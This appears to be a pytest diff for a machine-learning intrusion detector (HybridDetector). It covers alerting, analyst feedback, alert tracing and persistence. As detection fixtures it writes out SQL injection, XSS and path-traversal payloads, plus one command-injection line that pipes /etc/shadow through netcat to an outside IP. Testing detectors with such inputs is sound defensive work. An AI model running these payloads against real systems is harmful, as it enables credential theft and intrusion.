@@ -1,0 +1,139 @@
+"""HybridDetector: routing, missing columns, feedback effects, trace, persistence."""
+
+from __future__ import annotations
+
+import warnings
+
+import numpy as np
+import pytest
+
+from secml_detect import ByteFrequencyModel, HybridDetector, load, save
+from secml_detect.exceptions import InvalidParameterError
+from secml_detect.hybrid import Alert
+
+
+def _normal_events(n=300, seed=0):
+    rng = np.random.RandomState(seed)
+    return [{"payload": f"id={rng.randint(10000)}&name=user{rng.randint(50)}&page={rng.randint(9)}",
+             "service": "shop", "timestamp": f"2026-01-01T00:{i // 60:02d}:{i % 60:02d}"} for i in range(n)]
+
+
+@pytest.fixture(scope="module")
+def fitted():
+    return HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
+
+
+def test_normal_events_rarely_alert_and_attacks_do(fitted):
+    fresh = _normal_events(500, seed=1)
+    attacks = [{"payload": p} for p in ("id=1' OR '1'='1' --", "<script>alert(document.cookie)</script>",
+                                         "../../../../etc/passwd", ";cat /etc/shadow|nc 1.2.3.4 9")]
+    normal_alert_rate = np.mean(fitted.predict(fresh))
+    assert normal_alert_rate < 0.03  # ~model_fpr per component
+    assert fitted.predict(attacks).tolist() == [1, 1, 1, 1]
+
+
+def test_missing_columns_are_normal(fitted):
+    scores = fitted.threat_score([{"dst_ip": "1.2.3.4"}, {}, {"payload": None}, {"payload": float("nan")}])
+    assert scores.tolist() == [0.0, 0.0, 0.0, 0.0]
+
+
+def test_dataframe_input(fitted):
+    pd = pytest.importorskip("pandas")
+    frame = pd.DataFrame({"payload": ["id=1&name=user1&page=1", "<script>x</script>", None], "dst_ip": [None, None, "1.1.1.1"]})
+    scores = fitted.threat_score(frame)
+    assert scores.shape == (3,) and scores[1] > scores[0] and scores[2] == 0.0
+
+
+def test_alerts_are_ranked_explained_and_serialisable(fitted):
+    events = _normal_events(20, seed=2) + [{"payload": "id=1' OR '1'='1' --"}, {"payload": "<script>alert(1)</script>"}]
+    alerts = fitted.alerts(events)
+    assert alerts and all(isinstance(a, Alert) for a in alerts)
+    assert [a.threat_score for a in alerts] == sorted((a.threat_score for a in alerts), reverse=True)
+    assert {a.index for a in alerts} >= {20, 21}
+    top = alerts[0]
+    assert top.alert_id.startswith("A-") and "payload" in top.contributions and top.explanations["payload"]
+    assert top.to_json()  # JSON-serialisable
+    # Stable ids: the same event gets the same id in another call.
+    assert fitted.alerts(events[20:21])[0].alert_id == next(a.alert_id for a in alerts if a.index == 20)
+
+
+def test_dismissed_false_positive_stops_alerting_and_similar_events_drop():
+    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
+    # A legitimate but unusual format (a JSON body) that the profile has never seen.
+    fp_event = {"payload": '{"cart":[{"sku":"A-1","qty":2}],"coupon":"XMAS"}'}
+    similar = {"payload": '{"cart":[{"sku":"B-7","qty":1}],"coupon":"EASTER"}'}
+    attack = {"payload": "id=1' OR '1'='1' --"}
+    before = hd.threat_score([fp_event, similar, attack])
+    assert before[0] >= hd.alert_threshold and before[1] >= hd.alert_threshold
+    alert = next(a for a in hd.alerts([fp_event]))
+    hd.feedback([alert.alert_id], ["benign"], notes=["JSON checkout API"], analyst="ana")
+    after = hd.threat_score([fp_event, similar, attack])
+    assert after[0] < hd.alert_threshold            # the dismissed event stops alerting
+    assert after[1] < before[1]                     # a similar event drops in rank
+    assert after[2] >= hd.alert_threshold           # real attacks still alert
+    assert hd.feedback_[0]["verdict"] == "benign" and hd.feedback_[0]["analyst"] == "ana"
+
+
+def test_feedback_trains_combiner_when_both_classes_seen():
+    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0, label_prior=2.0)
+    hd.fit(_normal_events())
+    events = [{"payload": f"id={i}' OR '1'='1"} for i in range(5)] + [{"payload": f'{{"k":{i}}}'} for i in range(5)]
+    alerts = {a.index: a.alert_id for a in hd.alerts(events, threshold=0.0)}
+    hd.feedback([alerts[i] for i in range(10)], ["malicious"] * 5 + ["benign"] * 5)
+    assert hd.combiner_ is not None and len(hd.labelled_y_) == 10
+    scores = hd.threat_score([{"payload": "id=99' OR '1'='1"}, {"payload": '{"k":99}'}])
+    assert scores[0] > scores[1]
+
+
+def test_feedback_validates_input(fitted):
+    with pytest.raises(InvalidParameterError, match="verdict"):
+        fitted.feedback(["A-x"], ["maybe"])
+    with pytest.raises(InvalidParameterError, match="unknown alert"):
+        fitted.feedback(["A-doesnotexist"], ["benign"])
+
+
+def test_fit_with_labels_and_classifier_requirement():
+    events = _normal_events(100) + [{"payload": f"id={i}' OR 1=1 --"} for i in range(20)]
+    y = np.r_[np.zeros(100), np.ones(20)]
+    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(events, y)
+    assert hd.combiner_ is not None
+    from sklearn.linear_model import LogisticRegression
+
+    with pytest.raises(InvalidParameterError, match="threat_score"):  # not a secml_detect detector
+        HybridDetector([("x", LogisticRegression(), "x")]).fit(events)
+
+
+def test_trace_follows_shared_indicators_back_in_time():
+    events = [
+        {"timestamp": "2026-01-01T10:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7", "domain": "evil.example"},
+        {"timestamp": "2026-01-01T10:05", "src_ip": "10.0.0.9", "dst_ip": "198.51.100.1"},
+        {"timestamp": "2026-01-01T10:10", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.99", "calls": ["open", "read", "connect", "send"]},
+        {"timestamp": "2026-01-01T11:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7", "calls": ["open", "read", "connect", "send", "exec"],
+         "payload": "<script>alert(1)</script>"},
+        {"timestamp": "2026-01-01T12:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7"},
+    ]
+    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")]).fit(_normal_events())
+    alert = next(a for a in hd.alerts(events) if a.index == 3)
+    trail = hd.trace(alert.alert_id, events)
+    assert [t["index"] for t in trail] == [0, 2]  # not the later event 4, not the unrelated event 1
+    assert any("dst_ip=203.0.113.7" in link for link in trail[0]["links"])
+    assert any("similar calls" in link for link in trail[1]["links"])
+
+
+def test_save_load_keeps_feedback_and_scores(tmp_path):
+    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
+    fp = {"payload": '{"cart":[1,2,3]}'}
+    hd.feedback([hd.alerts([fp], threshold=0.0)[0].alert_id], ["benign"])
+    save(hd, tmp_path / "hd.smd")
+    loaded = load(tmp_path / "hd.smd")
+    events = [fp, {"payload": "<svg onload=alert(1)>"}]
+    np.testing.assert_array_equal(loaded.threat_score(events), hd.threat_score(events))
+    assert loaded.feedback_ == hd.feedback_
+
+
+def test_bad_rows_get_fallback_score_and_keep_positions(fitted):
+    with warnings.catch_warnings(record=True) as rec:
+        warnings.simplefilter("always")
+        scores = fitted.threat_score([{"payload": "id=1&name=user1&page=1"}, "not an event", 42])
+    assert scores[1:].tolist() == [1.0, 1.0]
+    assert any("indices 1, 2" in str(w.message) for w in rec)
